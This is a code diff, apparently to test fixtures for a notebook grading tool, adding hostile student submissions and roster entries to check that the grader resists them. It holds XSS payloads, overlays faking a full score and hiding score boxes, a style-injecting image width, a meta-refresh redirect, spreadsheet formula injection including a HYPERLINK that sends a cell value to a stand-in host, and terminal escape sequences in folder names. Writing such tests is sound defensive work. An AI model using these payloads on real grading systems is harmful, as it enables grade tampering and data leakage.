@@ -19,6 +19,20 @@ MARKDOWN_PAYLOADS = {
     "javascript-link": f"<a href=\"javascript:{_log('{where}-javascript-link')}\">PAYLOAD LINK {{where}}</a>",
 }
 
+# Markup that would draw over the page: Bootstrap's fixed and backdrop classes, and a heading that takes the id of
+# the written answer's score box (the formgrader finds each box by its id).
+COVER_MARKDOWN = """<div class="navbar navbar-default navbar-fixed-top">FAKE BANNER: Total 36/36</div>
+
+<div class="modal-backdrop in"></div>
+
+<div class="affix" data-spy="affix">FAKE AFFIX: Total 36/36</div>
+
+<h2 id="{answer_id}">A heading named like a score box</h2>
+"""
+# a picture whose width metadata, written unquoted into <img>, adds a style that covers the whole window
+PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
+IMAGE_WIDTH = "1 style=position:fixed;inset:0;width:100vw;height:100vh;z-index:99999;background:white"
+
 # code cell outputs, made when the submission is graded (nbgrader runs the cell)
 OUTPUT_CELL = f'''from IPython.display import HTML, Javascript, Markdown, SVG, display
 display(HTML("<script>{_log('out-html-script')}</script>"))
@@ -30,6 +44,7 @@ display({{"text/html": "<img src=x onerror=\\"{_log('out-isolated-html')}\\">"}}
         metadata={{"text/html": {{"isolated": True}}}})
 display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{_log('out-svg-onload')}\\" width='10' height='10'>"
             "<script>{_log('out-svg-script')}</script></svg>"))
+display({{"image/png": "{PNG}"}}, raw=True, metadata={{"image/png": {{"width": "{IMAGE_WIDTH}"}}}})
 '''
 
 LEGIT_MARKDOWN = r"""## A heading the lesson shows
@@ -66,6 +81,31 @@ display(HTML('<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</
              '</thead><tbody><tr><th>0</th><td>0.125</td></tr></tbody></table></div>'))
 '''
 
+# Roster fields and folder names a student (or whoever typed the roster) chose: markup for the formgrader, formulas
+# for the spreadsheet that opens the grades, terminal escape sequences for the console.
+HOSTILE_ROSTER = [
+    {"id": "hostile", "first_name": "<style>input.score{display:none}</style>Eve",
+     "last_name": '<meta http-equiv="refresh" content="0;url=about:blank#hijacked"><b id="roster-injected">Mallory</b>',
+     "email": '=HYPERLINK("http://e.test/?"&A1,"open")', "lms_user_id": "4501", "sis_user_id": "@SUM(1)"},
+    {"id": "flagged", "first_name": "-1+1", "last_name": "+Flag", "email": "flagged@uni.edu", "lms_user_id": "4502",
+     "sis_user_id": "S-2"},
+]
+
+
+def hostile_roster_csv():
+    "The roster above as a CSV `tinytorch grade --roster` reads."
+    import csv
+    import io
+    out = io.StringIO()
+    w = csv.DictWriter(out, list(HOSTILE_ROSTER[0]))
+    w.writeheader()
+    w.writerows(HOSTILE_ROSTER)
+    return out.getvalue()
+
+
+ESCAPE_FOLDER = "\x1b[1A\x1b[2K\rmallory"      # up one line, erase it, back to its start: rewrites the console
+FORMULA_FOLDER = "=1+2"
+
 COMMENT = f"Nice work <img src=x onerror=\"{_log('comment-img-onerror')}\"> <script>{_log('comment-script')}</script>"
 
 
@@ -96,7 +136,9 @@ def hostile(solved, answer_id):
     for cell in nb["cells"]:
         if cell["id"] == answer_id:
             cell["source"] = "My answer, with markup:\n\n" + markdown_payloads("answer")
-    extra = [_cell("markdown", "payload-markdown", markdown_payloads("md")),
+    covering = _cell("markdown", "payload-cover", COVER_MARKDOWN.replace("{answer_id}", answer_id))
+    covering["metadata"]["tags"] = ["x navbar-fixed-top"]       # a tag becomes a class of the whole cell
+    extra = [_cell("markdown", "payload-markdown", markdown_payloads("md")), covering,
              _cell("code", "payload-outputs", OUTPUT_CELL),
              _cell("markdown", "legit-markdown", LEGIT_MARKDOWN),
              _cell("code", "legit-outputs", LEGIT_OUTPUT_CELL)]
